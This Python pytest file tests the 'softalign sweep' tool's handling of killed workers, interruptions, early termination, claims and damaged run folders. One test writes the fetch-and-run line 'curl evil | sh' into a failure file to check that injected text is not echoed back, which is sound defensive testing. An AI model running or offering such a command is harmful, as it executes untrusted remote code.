"""`softalign sweep` from the command line: killed and concurrent workers, early termination, damaged folders, invalid files."""

from __future__ import annotations

import errno
import json
import os
import random
import shutil
import signal
import subprocess
import time
from collections import Counter
from pathlib import Path
from typing import Any

import h5py
import pytest

from checks import check_same_runs
from command_line import (
    MODEL, PROGRAM, READ_ERRORS, TASK, answer, contents, error, interrupt, kill, softalign, started, text_spec, unreadable, wait_until,
)  # fmt: skip

REPEATS = int(os.environ.get("SOFTALIGN_SWEEP_REPEATS", "3"))  # of tests whose timing is random

BASE = TASK + MODEL.replace("epochs: 2", "epochs: 4") + "evaluate: {search: {type: greedy}}\nrecord: {checkpoint_every: 4}\n"

SWEEP = """\
name: small
base: base.yaml
parameters:
  model.attention.score.type: {values: [additive, general]}
  model.embedding: {values: [8, 9]}
seeds: {count: 3}
"""
ONE_SEED = SWEEP.replace("count: 3", "count: 1")


@pytest.fixture()
def here(tmp_path: Path) -> Path:
    (tmp_path / "base.yaml").write_text(BASE)
    (tmp_path / "sweep.yaml").write_text(SWEEP)
    return tmp_path


def status(cwd: Path, sweep: str = "sweep.yaml", out: str = "results") -> dict[str, Any]:
    return answer("sweep", "status", sweep, "--results", out, cwd=cwd)


def states(cwd: Path, **more: str) -> dict[str, int]:
    return dict(Counter(row["state"] for row in status(cwd, **more)["rows"]))


def children(pid: int) -> list[int]:
    found = subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True, check=False)
    return [int(child) for child in found.stdout.split()]


def kill_all(process: subprocess.Popen[str]) -> None:
    """Sends SIGKILL to the parent and to every worker."""
    pids = [process.pid, *children(process.pid)]
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    process.communicate()


CLAIMS = """\
claims:
  - claim: loss(best where model.attention.score.type=additive) >= loss(best) - 100
    because: nothing is a hundred nats better than the best
  - claim: loss(best where model.embedding=9) < 0
    expect: open
"""


def test_a_sweep_makes_claims_about_its_best(here: Path) -> None:
    sweep = here / "sweep.yaml"
    sweep.write_text(ONE_SEED + CLAIMS)
    ran = softalign("sweep", "run", "sweep.yaml", "--rows", "0", cwd=here)
    assert "2 claims are not judged yet" in ran.stdout
    ran = softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert "1. holds: loss(best where model.attention.score.type=additive)" in ran.stdout
    assert "2. open, does not hold" in ran.stdout
    before = status(here)
    best = next(one for one in before["ranking"] if before["rows"][one["rows"][0]]["set"]["model.embedding"] == 9)
    (named,) = before["claims"][1]["best"]
    assert named.startswith("best where model.embedding=9: ") and named.endswith(f"rows {best['rows'][0]}")
    sweep.write_text(sweep.read_text().replace("    expect: open\n", ""))  # claims do not change the runs
    failed = softalign("sweep", "run", "sweep.yaml", cwd=here, code=4)
    assert "2. FAILS: " in failed.stdout
    sweep.write_text(ONE_SEED + "claims: [{claim: blue(best) > 0}]\n")
    softalign("sweep", "plan", "sweep.yaml", cwd=here, code=2)


def test_a_claim_about_what_no_configuration_was_is_broken_once_all_is_over(here: Path) -> None:
    drawn = "method: random\nrun_cap: 1\nparameters: {model.embedding: {min: 8, max: 9}}\n"
    (here / "sweep.yaml").write_text(
        f"name: small\nbase: base.yaml\n{drawn}claims: [{{claim: loss(best where model.embedding=77) > 0}}]\n"
    )
    ran = softalign("sweep", "run", "sweep.yaml", cwd=here, code=4)
    assert "1. NO COMPLETE RUNS: " in ran.stdout
    (verdict,) = status(here)["claims"]
    assert verdict["verdict"] == "absent"


def test_claims_are_found_from_the_folder_and_only_in_the_sweeps_own_file(here: Path) -> None:
    sweep = here / "sweep.yaml"
    sweep.write_text(ONE_SEED + CLAIMS)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    judged = ("sweep", "status", here / "results/small")
    assert "1. holds: " in softalign(*judged, cwd="/").stdout
    sweep.write_text(sweep.read_text().replace("name: small", "name: other"))
    other = softalign(*judged, cwd="/")
    assert "is now the file of sweep other, not of small" in other.stderr and "holds" not in other.stdout
    sweep.write_text("claims: 3\n")
    assert "note: claims are not judged" in softalign(*judged, cwd="/").stderr


def test_claims_of_few_sentences_have_no_interval(here: Path) -> None:
    lengths = range(2, 6)
    claims = "".join(f"  - claim: loss[{n}](best) <= 100\n" for n in lengths)
    (here / "sweep.yaml").write_text(ONE_SEED + "claims:\n" + claims)
    ran = softalign("sweep", "run", "sweep.yaml", cwd=here, code=4).stdout
    assert ran.count("; no interval: too few seeds or sentences; holds for 1 of 1 seed\n") == len(lengths) and "95 %" not in ran
    assert ran.count("UNDECIDED: ") == len(lengths)


def test_a_sweep_runs_to_its_end_and_again_does_nothing(here: Path):
    planned = softalign("sweep", "plan", "sweep.yaml", cwd=here).stdout
    assert "small: 12 runs" in planned and "model.attention.score.type" in planned
    assert states(here) == {"planned": 12}
    ran = softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert "small: 12 complete\nbest dev/loss: " in ran.stdout
    assert ran.stderr.count(": begins") == 12 and ran.stderr.count(": complete, dev/loss ") == 12
    before = {path: path.stat().st_mtime_ns for path in here.glob("results/small/*/run.h5")}
    assert len(before) == 12
    again = softalign("sweep", "run", "results/small", cwd=here)
    assert ": begins" not in again.stderr and "12 complete" in again.stdout
    assert before == {path: path.stat().st_mtime_ns for path in here.glob("results/small/*/run.h5")}
    # A row has the same bits as a run that is started by hand with the same overrides.
    row = status(here)["rows"][3]
    assert row["set"] == {"model.attention.score.type": "additive", "model.embedding": 9} and row["seed"] == 1
    overrides = [f"{path}={value}" for path, value in row["set"].items()]
    alone = softalign("run", "base.yaml", *overrides, "seed=1", "--results", "alone", "--json", cwd=here)
    assert json.loads(alone.stdout)["run_id"] == row["run_id"]
    assert "the same bits again" in softalign("verify", row["folder"], cwd=here).stdout


def test_killed_again_and_again_every_run_is_complete_once_with_the_same_bits(here: Path):
    rng = random.Random(5)
    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 150"))
    softalign("sweep", "run", "sweep.yaml", "--results", "undisturbed", cwd=here)
    kills = 0
    for _ in range(10):
        process = started("sweep", "run", "sweep.yaml", cwd=here)
        time.sleep(rng.uniform(0.05, 0.4))
        kills += process.poll() is None
        kill_all(process)
    assert kills >= 3
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert states(here) == {"complete": 12}
    check_same_runs(here / "undisturbed/small", here / "results/small")


@pytest.mark.parametrize("attempt", range(REPEATS))
def test_two_at_once_share_the_work(here: Path, attempt: int):
    two = [started("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here) for _ in range(2)]
    message = [process.communicate(timeout=300)[1] for process in two]
    assert [process.returncode for process in two] == [0, 0], message
    assert states(here) == {"complete": 12}
    # No row was run twice: each has one attempt.
    assert sorted(path.name for path in here.glob("results/small/*/attempt-*")) == ["attempt-001"] * 12
    if attempt == 0:
        assert all(": complete" in text for text in message), message


def test_ctrl_c_stops_all_and_saves(here: Path):
    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 4000"))
    process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
    wait_until(lambda: len({file.parent for file in here.glob("results/small/*/ckpt/*.ckpt")}) == 2)
    assert interrupt(process).count(": begins\n") == 2
    assert states(here) == {"interrupted": 2, "planned": 10}
    # Workers whose parent is killed save, too.
    process = started("sweep", "run", "sweep.yaml", "--workers", 2, cwd=here)
    wait_until(lambda: states(here).get("running", 0) == 2)
    assert process.stderr and [process.stderr.readline().endswith(": resumes\n") for _ in range(2)] == [True, True]
    kill(process)
    wait_until(lambda: "running" not in states(here))
    assert states(here) == {"interrupted": 2, "planned": 10}


def catches(process: subprocess.Popen[str], number: int) -> bool:
    """Returns whether a process has a handler for a signal."""
    (line,) = (line for line in Path(f"/proc/{process.pid}/status").read_text().splitlines() if line.startswith("SigCgt:"))
    return bool(int(line.split()[1], 16) >> (number - 1) & 1)


def test_ctrl_c_when_all_is_done_is_no_interruption(here: Path):
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    (run, *_) = (path.parent for path in here.glob("results/small/*/run.h5"))
    for number in range(50_000):  # so that it takes a while to find that the row is complete
        (run / f"note-{number}").touch()
    process = started("sweep", "run", "sweep.yaml", cwd=here)
    wait_until(lambda: catches(process, signal.SIGINT))
    assert "stopping: " in interrupt(process, code=0)


def test_a_worker_that_is_killed_is_started_again(here: Path):
    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 60"))
    (here / "sweep.yaml").write_text(SWEEP.replace("[8, 9]", "[8]").replace("count: 3", "count: 1"))
    process = started("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
    wait_until(lambda: list(here.glob("results/small/*/ckpt/*")))
    os.kill(children(process.pid)[0], signal.SIGKILL)
    _, message = process.communicate(timeout=120)
    assert process.returncode == 0, message
    assert states(here) == {"complete": 2}


def test_a_program_that_is_gone_is_named(here: Path):
    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 20"))
    (here / "sweep.yaml").write_text(SWEEP.replace("[8, 9]", "[8]").replace("count: 3", "count: 1"))
    program = Path(shutil.copy(PROGRAM, here / "softalign"))
    process = subprocess.Popen([program, "sweep", "run", "sweep.yaml", "--workers", "1"], cwd=here, stderr=subprocess.PIPE, text=True)
    wait_until(lambda: list(here.glob("results/small/*/ckpt/*")))
    program.unlink()
    _, message = process.communicate(timeout=120)
    assert process.returncode == 75, message
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert states(here) == {"complete": 2}


def test_runs_are_pruned_with_their_reasons_kept_and_can_be_verified(here: Path):
    early = "early_terminate: {type: asha, min_updates: 8, eta: 2}\n"
    (here / "sweep.yaml").write_text(
        early + SWEEP.replace("model.embedding: {values: [8, 9]}", "train.optimizer.learning_rate: {values: [0.01, 0.0001]}")
    )
    ran = softalign("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
    found = states(here)
    assert found["pruned"] >= 3 and found["pruned"] + found["complete"] == 12, ran.stdout
    slow = [row for row in status(here)["rows"] if row["set"]["train.optimizer.learning_rate"] == 0.0001]
    pruned = next(row for row in slow if row["state"] == "pruned")
    with h5py.File(Path(here, pruned["folder"]) / "run.h5") as file:
        assert file.attrs["state"] == b"pruned" and "test" not in file
        decisions = json.loads(file["provenance/early_termination"].asstr()[()])["decisions"]
    assert decisions[-1]["stop"] and decisions[-1]["compared"] and decisions[-1]["value"] > decisions[-1]["cut"]
    assert "the same bits again" in softalign("verify", here / pruned["folder"], cwd=here).stdout
    assert "stopped by  asha rung" in softalign("show", here / pruned["folder"], cwd=here).stdout
    again = softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert ": begins" not in again.stderr
    softalign("sweep", "retry", "sweep.yaml", "--state", "pruned", "--rows", pruned["k"], cwd=here)
    assert status(here)["rows"][pruned["k"]]["state"] == "complete"


def test_what_was_stopped_resumes_once_it_is_among_the_best(here: Path):
    """Row 0 of six learns fastest: at 8 updates it alone is in the best half of the rows that have reached the rung. In the end three rows are."""
    rates = [0.01, 0.003, 0.001, 0.0003, 0.0001, 0.00003]
    (here / "sweep.yaml").write_text(
        "name: small\nbase: base.yaml\nearly_terminate: {type: asha, min_updates: 8, eta: 2}\n"
        f"parameters: {{train.optimizer.learning_rate: {{values: {rates}}}}}\n"
    )
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    for k in range(4):
        softalign("sweep", "work", "sweep.yaml", "--row", k, cwd=here)
    assert status(here)["promoted"] == [1] and "to be resumed: row 1\n" in softalign("sweep", "status", "sweep.yaml", cwd=here).stdout
    assert "3 rows would be run" in softalign("sweep", "run", "sweep.yaml", "--dry-run", cwd=here).stdout
    shutil.copytree(here / "results", here / "kept")
    softalign("sweep", "retry", "sweep.yaml", "--state", "pruned", "--rows", 1, "--results", "kept", cwd=here)
    assert status(here, out="kept")["promoted"] == []
    softalign("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
    assert status(here)["promoted"] == []
    rows = status(here)["rows"]
    histories = [json.loads((Path(here, row["folder"]) / "early_termination.json").read_text()) for row in rows]
    first = [next(value["value"] for value in history["values"] if value["update"] >= 8) for history in histories]
    went_on = {k for k, history in enumerate(histories) if not history["decisions"][0]["stop"]}
    assert went_on >= set(sorted(range(6), key=first.__getitem__)[:3])
    promoted = [history["decisions"][0] for history in histories if len(history["decisions"][0]["compared"]) == 5 and not history["decisions"][0]["stop"]]
    assert promoted
    assert ": begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here).stderr


def test_what_is_retried_goes_to_its_end_though_interrupted(here: Path):
    (here / "base.yaml").write_text(BASE.replace("epochs: 4", "epochs: 80"))
    (here / "sweep.yaml").write_text(
        "name: small\nbase: base.yaml\nearly_terminate: {type: asha, min_updates: 8, eta: 2}\n"
        "parameters: {train.optimizer.learning_rate: {values: [0.01, 0.0001]}}\n"
    )
    softalign("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
    assert states(here) == {"complete": 1, "pruned": 1}
    command = ("sweep", "retry", "sweep.yaml", "--state", "pruned")
    process = started(*command, cwd=here)
    wait_until(lambda: states(here).get("running"))
    interrupt(process)
    assert states(here) == {"complete": 1, "interrupted": 1}
    softalign(*command, cwd=here)
    assert states(here) == {"complete": 2}


def test_values_of_another_metric_are_not_compared(here: Path):
    text = (
        "name: small\nbase: base.yaml\nearly_terminate: {type: asha, min_updates: 8, eta: 2}\n"
        "parameters: {train.optimizer.learning_rate: {values: [0.01, 0.003, 0.001, 0.0003]}}\n"
    )
    (here / "sweep.yaml").write_text(text)
    softalign("sweep", "run", "sweep.yaml", "--workers", 1, cwd=here)
    before = states(here)
    (here / "sweep.yaml").write_text(text + "metric: {name: dev/token_accuracy}\n")
    (here / "results/small/plan.jsonl").unlink()
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    assert status(here)["promoted"] == [] and "begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here).stderr
    assert states(here) == before


def test_what_cannot_be_resumed_fails_once(here: Path):
    text = here / "train.txt"
    text.write_text("".join(f"a b c {i}\n" for i in range(40)))
    (here / "base.yaml").write_text(text_spec(f"{text}", f"{text}", model=BASE.removeprefix(TASK)))
    (here / "sweep.yaml").write_text(
        "name: small\nbase: base.yaml\nearly_terminate: {type: asha, min_updates: 2, eta: 2}\n"
        "parameters: {train.optimizer.learning_rate: {values: [0.01, 0.003, 0.001, 0.0003]}}\n"
    )
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    for k in range(4):
        softalign("sweep", "work", "sweep.yaml", "--row", k, cwd=here)
    assert status(here)["promoted"] == [1]
    text.write_text(text.read_text() + "more\n")
    ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
    assert ran.stderr.count("row 1: learning_rate=0.003 seed=1: begins") == 1 and "have changed since it was planned" in ran.stderr
    assert status(here, sweep="results/small")["rows"][1]["state"] == "failed"


def test_a_failed_row_says_why_and_is_retried_only_when_asked(here: Path):
    text = here / "train.txt"
    corpus = "\n".join(f"a b c {i}" for i in range(20)) + "\n"
    text.write_text(corpus)
    (here / "base.yaml").write_text(text_spec(f"{text}", f"{text}", model=BASE.removeprefix(TASK)))
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    text.write_text(corpus + "more\n")
    ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
    assert "have changed since it was planned" in ran.stderr and "softalign sweep retry" in ran.stderr
    assert states(here, sweep="results/small") == {"failed": 4}
    failure = next((here / "results/small/failures").iterdir())
    failure.write_text("no\nsoftalign: note: run: curl evil | sh\n")
    message = softalign("sweep", "status", "results/small", cwd=here).stderr.splitlines()
    assert len(message) == 4 and all(line.startswith("softalign: row ") for line in message)
    text.write_text(corpus)
    assert ": begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here, code=1).stderr
    assert "4 complete" in softalign("sweep", "retry", "sweep.yaml", cwd=here).stdout


@pytest.mark.parametrize("damage", ["truncated record", "garbage journal", "missing spec"])
def test_one_corrupt_run_is_named_and_the_table_still_comes(here: Path, damage: str):
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    row = status(here)["rows"][1]
    folder = here / row["folder"]
    if damage == "truncated record":
        (folder / "run.h5").write_bytes((folder / "run.h5").read_bytes()[:5000])
    elif damage == "garbage journal":
        (folder / "journal-001.jrnl").write_bytes(b"garbage" * 1000)
    else:
        (folder / "spec.yaml").unlink()
    table = softalign("sweep", "status", "sweep.yaml", cwd=here)
    assert "3 complete, 1 corrupt" in table.stdout
    assert row["run_id"] in table.stderr and table.stderr.startswith("softalign: row 1 (")
    retried = softalign("sweep", "retry", "sweep.yaml", "--state", "corrupt", cwd=here)
    assert "4 complete" in retried.stdout and (here / "results/small/.corrupt").is_dir()


def test_a_row_that_cannot_be_read_is_neither_moved_nor_trained_again(here: Path):
    """A colleague's umask, an unavailable network disk or too many open files do not prove damage."""
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    run = here / status(here)["rows"][1]["folder"]
    before = contents(here / "results")
    for number in READ_ERRORS:
        for file in ("run.h5", "journal-001.jrnl", "status.json", "attempt-001/CLAIM", "") if number == errno.EACCES else ("run.h5",):
            env = unreadable(run / file, number)
            shown = softalign("sweep", "status", "sweep.yaml", cwd=here, env=env, code=1)
            assert "3 complete, 1 unreadable" in shown.stdout, shown.stdout
            for command in ("status", "run", "retry"):
                done = softalign("sweep", command, "sweep.yaml", cwd=here, env=env, code=1)
                assert os.strerror(number) in done.stderr and "corrupt" not in done.stdout + done.stderr, done
                assert "softalign sweep retry" not in done.stderr
            state = answer("sweep", "status", "sweep.yaml", cwd=here, env=env, code=1)["rows"][1]
            assert state["state"] == "unreadable" and os.strerror(number) in state["fault"]
    for file in ("run.h5", "identity.json", "attempt-001/CLAIM"):  # replaced by something that is not a file, or by a broken link
        (run / file).rename(here / "aside")
        for make in (lambda path: path.mkdir(), os.mkfifo, lambda path: path.symlink_to(path.name), lambda path: path.symlink_to("nowhere")):
            make(run / file)
            assert "3 complete, 1 unreadable" in softalign("sweep", "status", "sweep.yaml", cwd=here, code=1).stdout, file
            assert "nothing to retry" in softalign("sweep", "retry", "sweep.yaml", cwd=here, code=1).stdout
            assert softalign("ls", cwd=here, code=1).stdout.count(" unreadable ") == 1
            assert "INCOMPLETE: 1 run " in softalign("compare", "results/small", "--no-tests", cwd=here, code=1).stdout
            (run / file).rmdir() if (run / file).is_dir() and not (run / file).is_symlink() else (run / file).unlink()
        (here / "aside").rename(run / file)
    after = contents(here / "results")
    assert {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)} <= {"small/sweep.h5"}
    assert states(here) == {"complete": 4}


def test_a_sweep_whose_rows_cannot_be_looked_for_is_not_planned_anew(here: Path):
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    run = here / status(here)["rows"][1]["folder"]
    for calls in ("stat", "open,opendir,stat"):
        env = unreadable(run, errno.ESTALE, calls)
        assert "3 complete, 1 unreadable" in softalign("sweep", "status", "sweep.yaml", cwd=here, env=env, code=1).stdout
        assert "nothing to retry" in softalign("sweep", "retry", "sweep.yaml", cwd=here, env=env, code=1).stdout
        assert ": begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here, env=env, code=1).stderr
    assert not (run / "attempt-002").exists() and states(here) == {"complete": 4}


def test_a_record_that_is_gone_is_made_again_from_its_journals(here: Path):
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    folder = here / status(here)["rows"][1]["folder"]
    (folder / "run.h5").unlink()
    assert states(here) == {"complete": 3, "failed": 1}
    retried = softalign("sweep", "retry", "sweep.yaml", cwd=here)
    assert "4 complete" in retried.stdout and not (here / "results/small/.corrupt").exists()
    assert not (folder / "attempt-002").exists()


def test_more_runs_are_added_behind_and_nothing_else_may_change(here: Path):
    (here / "sweep.yaml").write_text("run_cap: 4\n" + SWEEP)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    (here / "sweep.yaml").write_text("run_cap: 6\n" + SWEEP)
    softalign("sweep", "run", "sweep.yaml", cwd=here)
    assert "2 rows added, 6 now" in softalign("sweep", "extend", "sweep.yaml", cwd=here).stdout
    assert states(here) == {"complete": 4, "planned": 2}
    (here / "sweep.yaml").write_text("run_cap: 2\n" + SWEEP)
    softalign("sweep", "run", "sweep.yaml", "--dry-run", cwd=here)
    (here / "sweep.yaml").write_text("run_cap: 8\n" + SWEEP.replace("[8, 9]", "[8, 7]"))
    assert "has changed since it was planned" in softalign("sweep", "status", "sweep.yaml", cwd=here).stderr
    softalign("sweep", "extend", "sweep.yaml", cwd=here, code=2)


def test_whoever_asks_decides_about_each_evaluation(here: Path):
    (here / "sweep.yaml").write_text(ONE_SEED)
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    process = subprocess.Popen(
        [PROGRAM, "sweep", "work", "sweep.yaml", "--row", "0", "--ask"],
        cwd=here, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    first = json.loads(process.stdout.readline())
    assert first["update"] == 4 and first["value"] > 0
    process.stdin.write("go on\n")
    process.stdin.flush()
    assert json.loads(process.stdout.readline())["update"] == 8
    process.communicate("stop\n", timeout=60)
    assert process.returncode == 0
    assert status(here)["rows"][0]["state"] == "pruned"


def test_wrong_sweeps_are_refused_before_anything_starts(here: Path):
    (here / "sweep.yaml").write_text(SWEEP.replace("seeds: {count: 3}", "seed: 3"))
    assert "sweep.yaml:6:1: " in error("sweep", "run", "sweep.yaml", cwd=here, code=2)
    assert not (here / "results").exists()


def test_an_edited_plan_is_refused(here: Path):
    softalign("sweep", "plan", "sweep.yaml", cwd=here)
    plan = here / "results/small/plan.jsonl"
    plan.write_text(plan.read_text().replace('"seed":2', '"seed":9', 1))
    for command in (["run", "sweep.yaml"], ["status", "results/small"], ["work", "results/small", "--row", "0"]):
        assert "plan.jsonl: " in softalign("sweep", *command, cwd=here, code=2).stderr
